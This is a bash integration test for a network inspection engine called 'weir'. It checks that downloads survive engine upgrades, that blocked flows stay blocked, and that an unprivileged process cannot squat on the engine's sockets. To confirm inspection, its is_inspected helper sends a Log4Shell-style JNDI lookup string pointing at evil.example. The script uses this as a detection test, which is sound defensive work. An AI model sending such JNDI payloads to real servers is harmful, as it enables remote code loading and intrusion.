#!/usr/bin/env bash
# One engine after another takes over while a file is downloaded: it arrives whole, and what was blocked stays blocked.
# Usage: case-upgrade.sh [BYTES UPGRADES]   200 MB through 4 upgrades unless told otherwise; an even number of them
set -euo pipefail
# shellcheck source=lab.sh
. "$(dirname "${BASH_SOURCE[0]}")/lab.sh"

bytes=${1-200000000} upgrades=${2-4}
# Slow enough that the download lasts longer.
rate=$((bytes / upgrades / 4))
udp_port=9999

# Datagrams of which the server's kernel says that nobody listens: all that arrive.
# shellcheck disable=SC2016  # $3 is awk's.
arrived() { in_ns server awk '/^Udp:/ { count = $3 } END { print count }' /proc/net/snmp; }

# say COUNT TEXT: datagrams of the flow that is blocked.
say() {
    local number
    for number in $(seq "$1"); do printf '%s\n' "$2" >&"$udp_fd"; done
}

is_inspected() {
    fetch "$dir/got" "http://$server_v4/?x=\${jndi:ldap://evil.example/a}" --max-time 5
    [[ $curl_exit -eq 56 ]]
}

# A new process asks for the links by itself.
by_takeover() {
    local former=$engine_pid former_exit=0
    engine_up "$dir/weir.toml" "$dir/engine-$1.log" --takeover || { cat "$dir/engine-$1.log"; exit 1; }
    # Unless the shell did not start it.
    wait "$former" 2>/dev/null || former_exit=$?
    [[ $former_exit -eq 0 || $former_exit -eq 127 ]] || fail "the former engine ended with $former_exit"
}

# The operator asks the engine that runs to start its binary anew.
by_command() {
    local former=$engine_pid
    in_ns middle "$weir" upgrade --config "$dir/weir.toml" >"$dir/said" 2>&1 || { cat "$dir/said"; fail "weir upgrade"; }
    engine_pid=$(sed -n 's/^weir: process \([0-9]*\) has taken over from process '"$former"'$/\1/p' "$dir/said")
    [[ -n $engine_pid ]] || fail "it names both engines: $(<"$dir/said")"
    local _
    for _ in {1..100}; do kill -0 "$former" 2>/dev/null || return 0; sleep 0.05; done
    fail "the former engine ends"
}

refused() {
    section "What does not take over leaves the engine at work"
    local code=0
    in_ns middle "$weir" run --config "$dir/weir.toml" >"$dir/said" 2>&1 || code=$?
    check_equal "an engine that was not told to take over ends with 1" "$code" 1
    check "and says how it could" grep -q -e '--takeover' "$dir/said"
    sed 's/^inside = .*/inside = "nowhere"/' "$dir/weir.toml" >"$dir/wrong.toml"
    code=0
    in_ns middle "$weir" run --config "$dir/wrong.toml" --takeover >"$dir/said" 2>&1 || code=$?
    check_equal "one without its port ends with 78" "$code" 78
    check "the engine works on" kill -0 "$engine_pid"
    check "and inspects" is_inspected
}

download_through_upgrades() {
    section "A download of $bytes bytes while $upgrades engines take over"
    local client number
    # Not through fetch: this runs beside.
    in_ns client curl -qgs --noproxy '*' --max-time 600 --limit-rate "$rate" -o "$dir/download" \
        "http://$server_v4/download.bin" &
    client=$!
    lab_children+=("$client")
    for ((number = 1; number <= upgrades; number++)); do
        if ((number % 2)); then by_command; else by_takeover "$number"; fi
        check "engine $((number + 1)) inspects" is_inspected
        say 5 harmless
    done
    check "the download lasted longer than that" kill -0 "$client"
    check "it completes" wait "$client"
    check_equal "byte for byte" "$(sha256 "$dir/download")" "$(sha256 "$dir/site/pages/download.bin")"
}

# Another user takes whatever names of the link it can: the abstract socket, that of /run/weir, and the lock.
squat() {
    : >"$dir/squatter"
    nsenter --net="$(lab_netns middle)" python3 - "$lab_prefix" "$key" >"$dir/squatter" 2>&1 <<'END' &
import fcntl, os, socket, sys, time
# Not by setpriv: where python3 is root's alone, another user cannot start it.
os.setgroups([])
os.setresgid(65534, 65534, 65534)
os.setresuid(65534, 65534, 65534)
link, key = sys.argv[1:]
taken = []
def attempt(what, take):
    try:
        taken.append(take())
        print("took", what, flush=True)
    except OSError as error:
        print("refused", what, error, flush=True)
def listen(address):
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(address)
    listener.listen()
    return listener
def lock():
    directory = os.open(f"/sys/fs/bpf/weir/{key}", os.O_RDONLY)
    fcntl.flock(directory, fcntl.LOCK_EX | fcntl.LOCK_NB)
    return directory
attempt("name", lambda: listen(f"\0weir/link/{link}"))
attempt("socket", lambda: listen(f"/run/weir/{key}"))
attempt("directory", lambda: os.mkdir(f"/sys/fs/bpf/weir/{key}"))
attempt("lock", lock)
print("done", flush=True)
time.sleep(1000)
END
    squatter=$!
    lab_children+=("$squatter")
    local _
    for _ in {1..100}; do ! grep -q '^done' "$dir/squatter" || return 0; sleep 0.05; done
    fail "the squatter took what it could: $(<"$dir/squatter")"
}

squatted() {
    section "Another user squats on the link between two engines"
    local key squatter code
    key=$lab_prefix@$(in_ns middle stat -L -c %i /proc/self/ns/net)
    check "the engine's socket is where it is asked" test -S "/run/weir/$key"
    engine_end KILL
    check "a killed engine leaves its pins" test -e "/sys/fs/bpf/weir/$key/inside"
    squat
    check_equal "it took an abstract name, and nothing else" "$(grep -c '^took' "$dir/squatter")" 1
    check_equal "socket, directory and lock are refused" "$(grep -c '^refused' "$dir/squatter")" 3
    lab_start_engine case-upgrade
    check "the new engine inspects" is_inspected
    check "weir reload reaches it" in_ns middle "$weir" reload --config "$dir/weir.toml"
    by_command
    check "the one after it inspects" is_inspected
    by_takeover squatted
    check "and the next" is_inspected
    check "the squatter was there all the time" kill "$squatter"
    code=0
    cp "$weir" "$dir/weir"
    in_ns middle setpriv --reuid 65534 --regid 65534 --clear-groups \
        "$dir/weir" reload --config "$dir/weir.toml" >"$dir/said" 2>&1 || code=$?
    check_equal "another user's weir reload ends with 1" "$code" 1
    check "and says that it may not" grep -q 'Permission denied' "$dir/said"
}

# What stands in the place of the binary fails at once. `weir upgrade` says how, which it does not know of one that it waits
# for in vain.
failing_successor() {
    section "A new binary that fails"
    local weir_path=$weir code=0
    engine_end TERM
    cp "$weir_path" "$dir/weir"
    weir=$dir/weir
    lab_start_engine case-upgrade
    printf '#!/bin/sh\nexit 77\n' >"$dir/wrong"
    chmod 755 "$dir/wrong"
    mv "$dir/wrong" "$dir/weir"
    in_ns middle "$weir_path" upgrade --config "$dir/weir.toml" >"$dir/said" 2>&1 || code=$?
    check_equal "weir upgrade ends with 1" "$code" 1
    check "and says how the new engine ended" grep -q 'exit status: 77' "$dir/said"
    check "the engine works on" kill -0 "$engine_pid"
    check "and inspects" is_inspected
    weir=$weir_path
}

# The flow events of the blocked flow, one for each engine.
blocked_events() {
    jq -c 'select(.event_type == "flow" and .proto == "UDP" and .dest_port == '"$udp_port"' and .flow.drop_reason != null)' "$dir/eve.json"
}

lab_tools+=(python3 setpriv)
if obstacle=$(lab_obstacle); then skip case-upgrade "$obstacle"; fi
lab_open upgrade
lab_up "weir-upgrade-$$"
lab_mount_bpffs
site_up "$dir/site"
head -c "$bytes" /dev/urandom >"$dir/site/pages/download.bin"
engine_write_config "$dir/weir.toml" "$dir/eve.json"
lab_start_engine case-upgrade
mkfifo "$dir/datagrams"
# One socket for all of them, in the client's namespace.
# shellcheck disable=SC2016 # The inner shell expands it.
nsenter --net="$(lab_netns client)" bash -c 'exec 3>/dev/udp/$0/$1
    while read -r text; do printf %s "$text" >&3 2>/dev/null || true; done' "$server_v4" "$udp_port" <"$dir/datagrams" &
lab_children+=($!)
exec {udp_fd}>"$dir/datagrams"
say 1 "my number is $card"
sleep 0.5
before=$(arrived)
refused
download_through_upgrades
sleep 0.3
engine_end TERM
section "The flow that was blocked"
check_equal "nothing of it arrived" "$(arrived)" "$before"
check_equal "each engine tells of it once" "$(blocked_events | wc -l)" $((upgrades + 1))
check_equal "under one identifier" "$(blocked_events | jq .flow_id | sort -u | wc -l)" 1
check_equal "together they count every frame" "$(blocked_events | jq -s 'map(.flow.pkts_toserver) | add')" $((1 + 5 * upgrades))
check_equal "the last engine ends in peace" "$engine_exit" 0
rm "$dir/eve.json"
lab_start_engine case-upgrade
squatted
failing_successor
engine_end TERM
check_equal "the last engine ends in peace after that" "$engine_exit" 0
check_equal "no pin is left" "$(find /sys/fs/bpf/weir /run/weir -name "$lab_prefix*")" ""
check_not "nothing is attached" lab_has_xdp
checks_close
